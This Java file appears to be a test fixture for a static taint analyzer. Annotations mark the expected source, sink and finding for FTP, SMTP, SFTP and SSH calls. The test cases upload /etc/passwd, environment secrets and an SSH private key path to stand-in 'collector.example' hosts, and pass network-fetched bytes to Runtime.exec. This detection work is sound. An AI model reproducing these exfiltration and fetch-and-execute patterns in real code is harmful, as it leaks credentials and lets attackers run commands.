// Commons Net, JSch, sshj, Apache MINA SSHD: FTP, SSH, SFTP, SMTP by hand.
package app;

import com.jcraft.jsch.*;
import java.io.*;
import net.schmizz.sshj.SSHClient;
import org.apache.commons.net.ftp.*;
import org.apache.commons.net.smtp.SMTPClient;
import org.springframework.web.client.RestTemplate;

class Transfer {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void connected() {
        FTPClient client = new FTPClient();
        client.connect("ftp.collector.example"); //~ capability(NETWORK), endpoint("ftp.collector.example")
        client.connect("ftp.collector.example"); //~ ok
    }

    void stored(FTPClient client) {
        client.storeFile("x", new FileInputStream("/etc/passwd")); //~ source(FILE) f1, sink(egress.ftp) f1, finding(traced) f1, capability(NETWORK)
    }

    void storedStream(FTPSClient client) {
        client.storeFileStream("x").write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f2, sink(egress.ftp) f2, finding(traced) f2, capability(NETWORK)
    }

    void fetched(FTPClient client) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        client.retrieveFile("x", out); //~ source(NETWORK) f3, capability(NETWORK)
        Runtime.getRuntime().exec(out.toString()); //~ sink(exec.command) f3, finding(traced) f3
    }

    void fetchedStream(FTPClient client) {
        Runtime.getRuntime().exec(new String(client.retrieveFileStream("x").readAllBytes())); //~ source(NETWORK) f4, sink(exec.command) f4, finding(traced) f4
    }

    void commanded(FTPClient client) {
        client.makeDirectory(System.getenv("T")); //~ source(ENVIRONMENT) f5, sink(egress.ftp) f5, finding(traced) f5
    }

    void constants(FTPClient client, InputStream in) {
        client.login("u", System.getenv("T")); //~ ok
        rest.postForObject(U, client, String.class);
        client.storeFile("x", in); //~ ok
        client.storeFileStream("x").write(1); //~ ok
        client.retrieveFile("x", new ByteArrayOutputStream()); //~ ok
        rest.postForObject(U, client.retrieveFileStream("x").available(), String.class); //~ ok
        client.makeDirectory("x"); //~ ok
    }

    void mailed(SMTPClient client) {
        Writer out = client.sendMessageData(); //~ sink(egress.mail) f6, finding(traced) f6, capability(MAIL)
        out.write(System.getenv("T")); //~ source(ENVIRONMENT) f6
        client.sendMessageData().write("x"); //~ ok
    }

    void mailedSimple(SMTPClient client) {
        client.sendSimpleMessage("a", "b", System.getenv("T")); //~ source(ENVIRONMENT) f7, sink(egress.mail) f7, finding(traced) f7, capability(MAIL)
        client.sendSimpleMessage("a", "b", "x"); //~ ok
    }

    void secure(JSch jsch) {
        Session session = jsch.getSession("u", "ssh.collector.example"); //~ capability(NETWORK), endpoint("ssh.collector.example")
        ChannelSftp sftp = (ChannelSftp) session.openChannel("sftp");
        sftp.put("/etc/passwd", "x"); //~ source(FILE) f8, sink(egress.ssh) f8, finding(traced) f8
    }

    void securePut(ChannelSftp sftp) {
        sftp.put(new FileInputStream("/etc/passwd"), "x"); //~ source(FILE) f17, sink(egress.ssh) f17, finding(traced) f17, capability(NETWORK)
    }

    void secureIdentity(JSch jsch) {
        jsch.addIdentity("/home/u/.ssh/id_rsa"); //~ capability(CREDENTIALS)
        jsch.addIdentity("/home/u/.ssh/id_rsa"); //~ ok
    }

    void secureOpened(Session session) {
        session.openChannel("exec"); //~ capability(NETWORK)
        session.openChannel("exec"); //~ ok
    }

    void secureCommand(ChannelExec channel) {
        channel.setCommand(System.getenv("T")); //~ source(ENVIRONMENT) f9, sink(egress.ssh) f9, finding(traced) f9
    }

    void secureOut(Session session) {
        session.openChannel("shell").getOutputStream().write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f10, sink(egress.ssh) f10, finding(traced) f10
    }

    void secureIn(ChannelExec channel) {
        Runtime.getRuntime().exec(new String(channel.getInputStream().readAllBytes())); //~ source(NETWORK) f11, sink(exec.command) f11, finding(traced) f11
    }

    void secureGet(ChannelSftp channel) {
        Runtime.getRuntime().exec(new String(channel.get("x").readAllBytes())); //~ source(NETWORK) f12, sink(exec.command) f12, finding(traced) f12
    }

    void secureFed(ChannelShell channel) {
        channel.setInputStream(new FileInputStream("/etc/passwd")); //~ source(FILE) f13, sink(egress.ssh) f13, finding(traced) f13
    }

    void secureConstants(JSch jsch, ChannelExec channel, ChannelSftp sftp, InputStream in) {
        jsch.getSession("u", "ssh.collector.example"); //~ ok
        sftp.put(in, "x"); //~ ok
        channel.setCommand("id"); //~ ok
        channel.getOutputStream().write(1); //~ ok
        channel.setInputStream(in); //~ ok
        rest.postForObject(U, channel.getInputStream().available(), String.class); //~ ok
        rest.postForObject(U, sftp.get("x").available(), String.class); //~ ok
    }

    void other(SSHClient client) {
        client.connect("sshj.collector.example"); //~ capability(NETWORK), endpoint("sshj.collector.example")
        client.newSFTPClient().put("/etc/passwd", "x"); //~ source(FILE) f14, sink(egress.ssh) f14, finding(traced) f14
        client.newSCPFileTransfer().upload("/etc/passwd", "x"); //~ source(FILE) f15, sink(egress.ssh) f15, finding(traced) f15
        client.startSession().exec(System.getenv("T")); //~ source(ENVIRONMENT) f16, sink(egress.ssh) f16, finding(traced) f16
    }

    void otherConstants(SSHClient client) {
        client.connect("sshj.collector.example"); //~ ok
        new Own().put("/etc/passwd", "x"); //~ ok
        client.newSFTPClient().close(); //~ ok
        client.newSCPFileTransfer().close(); //~ ok
        client.startSession().exec("id"); //~ ok
    }
}

class Own {
    void put(String from, String to) {}
}
